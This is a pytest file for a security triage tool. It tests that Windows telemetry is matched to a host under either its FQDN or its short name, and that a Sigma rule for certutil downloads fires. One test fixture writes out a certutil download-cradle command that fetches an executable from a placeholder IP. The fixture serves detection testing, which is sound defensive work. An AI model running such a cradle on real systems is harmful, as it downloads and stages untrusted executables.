"""One host, two names: Windows telemetry names a computer by its FQDN (``WS-FINANCE-07.corp.example.com``)
where the EDR alert says ``WS-FINANCE-07`` — or the reverse. Triage reads the host's telemetry under either
name, in memory and in the store, without taking ``WS-1`` for ``WS-10`` or one domain's ``ws-1`` for
another's."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert, update

from flows.models import Alert
from flows.store import EventRow, Store, event_row
from flows.tenants import Policy
from flows.triage import MemoryTelemetry, StoreTelemetry, triage, triage_files
from flows.winlog import host_key, same_host

WHEN = datetime(2026, 11, 15, 9, 0, tzinfo=UTC)
CASE = (
    Path(__file__).resolve().parents[1]
    / "fixtures"
    / "sigma"
    / "regression_data"
    / "rules"
    / "windows"
    / "process_creation"
    / "proc_creation_win_certutil_download_direct_ip"
)  # a capture whose Computer is an FQDN: ar-win-dc.attackrange.local
CERTUTIL_RULE = "13e6fe51-d478-4c7e-b0f2-6da9b400a829"


def _launch(host: str, image: str, tenant: str = "acme", minutes: int = 0) -> dict[str, Any]:
    when = WHEN - timedelta(hours=1) + timedelta(minutes=minutes)
    return event_row(
        {
            "Event": {
                "System": {
                    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                    "EventID": 1,
                    "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "Computer": host,
                    "TimeCreated": {"#attributes": {"SystemTime": when.isoformat()}},
                },
                "EventData": {
                    "Image": image,
                    "CommandLine": image,
                    "ParentImage": "C:\\Windows\\explorer.exe",
                },
            }
        },
        tenant,
    )


ROWS = [
    _launch("WS-FINANCE-07.corp.example.com", "C:\\a\\fqdn.exe", minutes=1),
    _launch("ws-finance-07", "C:\\a\\short-lower.exe", minutes=2),
    _launch("WS-FINANCE-070.corp.example.com", "C:\\a\\longer-name.exe", minutes=3),
    _launch("WS-FINANCE-07.lab.example.net", "C:\\a\\other-domain.exe", minutes=4),
    _launch("WS-FINANCE-07.corp.example.com", "C:\\a\\other-tenant.exe", tenant="globex", minutes=5),
    _launch("10.0.0.7", "C:\\a\\by-ip.exe", minutes=6),
]


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        ("WS-FINANCE-07", {"fqdn.exe", "short-lower.exe", "other-domain.exe"}),
        ("ws-finance-07.CORP.example.com", {"fqdn.exe", "short-lower.exe"}),
        ("WS-FINANCE-07.corp.example.com.", {"fqdn.exe", "short-lower.exe"}),
        ("WS-FINANCE", set()),
        ("10.0.0.7", {"by-ip.exe"}),
        ("10", set()),
    ],
)
def test_a_host_is_found_under_either_name_in_memory_and_in_the_store(
    store: Store, asked: str, found: set[str]
) -> None:
    with store.engine.begin() as conn:
        conn.execute(insert(EventRow), ROWS)

    in_memory = MemoryTelemetry(ROWS).on_hosts("acme", [asked])
    in_store = StoreTelemetry(store.engine).on_hosts("acme", [asked])

    assert {r["process_path"].rsplit("\\", 1)[1] for r in in_memory} == found
    assert {r["process_path"].rsplit("\\", 1)[1] for r in in_store} == found


def test_a_row_stored_before_the_short_name_column_is_found_by_its_name(store: Store) -> None:
    with store.engine.begin() as conn:
        conn.execute(insert(EventRow), ROWS[:2])
        conn.execute(update(EventRow).values(host_key=None))  # as rows an older Garrison stored

    found = StoreTelemetry(store.engine).on_hosts("acme", ["WS-FINANCE-07.corp.example.com", "ws-finance-07"])

    assert len(found) == 2


def test_same_host_and_its_key() -> None:
    assert (
        host_key(" WS-FINANCE-07.Corp.Example.com. ") == "ws-finance-07"
        and host_key("10.0.0.7") == "10.0.0.7"
    )
    assert same_host("WS-FINANCE-07", "ws-finance-07.corp.example.com")
    assert same_host("ws-finance-07.corp.example.com", "WS-FINANCE-07")
    assert not same_host("WS-1", "WS-10") and not same_host("WS-1", "ws-10.corp.example.com")
    assert not same_host("ws-1.a.example", "ws-1.b.example") and not same_host("", "")
    assert not same_host("10", "10.0.0.7") and not same_host("fe80::1", "fe80")


def _bland(host: str, when: str) -> dict[str, Any]:
    stamp = int(datetime.fromisoformat(when.replace("Z", "+00:00")).timestamp() * 1000)
    return {
        "class_uid": 2004,
        "severity_id": 3,
        "time": stamp,
        "metadata": {"tenant_uid": "acme", "product": {"name": "Some EDR"}, "uid": "bland-1"},
        "finding_info": {"uid": "bland-1", "title": f"Suspicious activity on {host}"},
        "device": {"hostname": host},
    }


def test_an_alert_naming_the_short_name_reads_the_fqdn_telemetry(tmp_path: Path) -> None:
    [capture] = CASE.glob("*.json")
    first = json.JSONDecoder().raw_decode(capture.read_text(encoding="utf-8"))[0]
    assert first["Event"]["System"]["Computer"] == "ar-win-dc.attackrange.local"
    alert = tmp_path / "alert.json"
    alert.write_text(
        json.dumps(_bland("AR-WIN-DC", first["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"]))
    )

    result = triage_files(alert, events=[capture], policy=Policy())

    assert result.features["host_events"] > 0
    assert CERTUTIL_RULE in {r.params.get("rule") for r in result.verdict.reasons if r.code == "sigma"}


def test_an_alert_naming_the_fqdn_reads_the_short_name_telemetry_from_the_store(store: Store) -> None:
    cradle = "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe"
    row = _launch("WS-FINANCE-07", "C:\\Windows\\System32\\certutil.exe")
    row["document"]["unmapped"]["windows"]["event_data"]["CommandLine"] = cradle
    with store.engine.begin() as conn:
        conn.execute(insert(EventRow), [row])
    alert = Alert.model_validate(_bland("ws-finance-07.corp.example.com", WHEN.isoformat()))

    result = triage([alert], [], Policy(), StoreTelemetry(store.engine), WHEN)

    assert result.features["host_events"] == 1
    assert CERTUTIL_RULE in {r.params.get("rule") for r in result.verdict.reasons if r.code == "sigma"}
